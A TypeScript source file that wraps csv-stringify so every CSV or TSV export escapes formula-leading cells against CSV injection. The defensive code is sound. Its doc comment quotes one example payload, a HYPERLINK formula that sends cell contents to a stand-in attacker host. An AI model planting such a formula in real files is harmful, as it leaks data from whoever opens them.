import { stringify as stringifyStream, type Stringifier } from 'csv-stringify';
import { stringify } from 'csv-stringify/sync';

/**
 * Every CSV (and TSV) this server writes, so that no cell reaches a
 * spreadsheet as a formula. Spreadsheet programs evaluate a cell that starts
 * with `=`, `+`, `-` or `@` (also after a leading tab or carriage return,
 * which some of them strip first) as a formula: a metadata value or a name
 * such as `=HYPERLINK("https://evil.example/?"&A1)` would run when a
 * researcher or an administrator opens the file. Such a text cell gets a
 * leading apostrophe, as OWASP's CSV-injection advice has it: the value stays
 * readable, and a spreadsheet shows it as text (csv-stringify's
 * `escape_formulas`, which also covers the full-width forms of those signs).
 *
 * Columns are typed: a number passed as a number is written as one, and a
 * negative number keeps its minus sign (a number cannot carry a formula); the
 * same digits passed as text are escaped like any other text.
 */

/** A cell: text (escaped when it would be a formula), a number (written as it is), or nothing (an empty cell). */
export type CsvCell = string | number | null | undefined;

export interface CsvOptions {
  /** The header row, and for object rows the keys to read, in order. */
  columns: readonly string[];
  /** `,` (the default) or a tab for tab-separated values. */
  delimiter?: ',' | '\t';
}

type Row = readonly CsvCell[] | Readonly<Record<string, CsvCell>>;

/** The whole file as text, header first. */
export function csvText(rows: readonly Row[], { columns, delimiter = ',' }: CsvOptions): string {
  return stringify(rows as Row[] as unknown[][], settings(columns, delimiter));
}

/** A stream that takes rows (arrays, or objects keyed by column) and gives the file, header first: for exports too large to hold. */
export function csvStream({ columns, delimiter = ',' }: CsvOptions): Stringifier {
  return stringifyStream(settings(columns, delimiter));
}

function settings(columns: readonly string[], delimiter: string) {
  return { header: true, columns: [...columns], delimiter, escape_formulas: true };
}
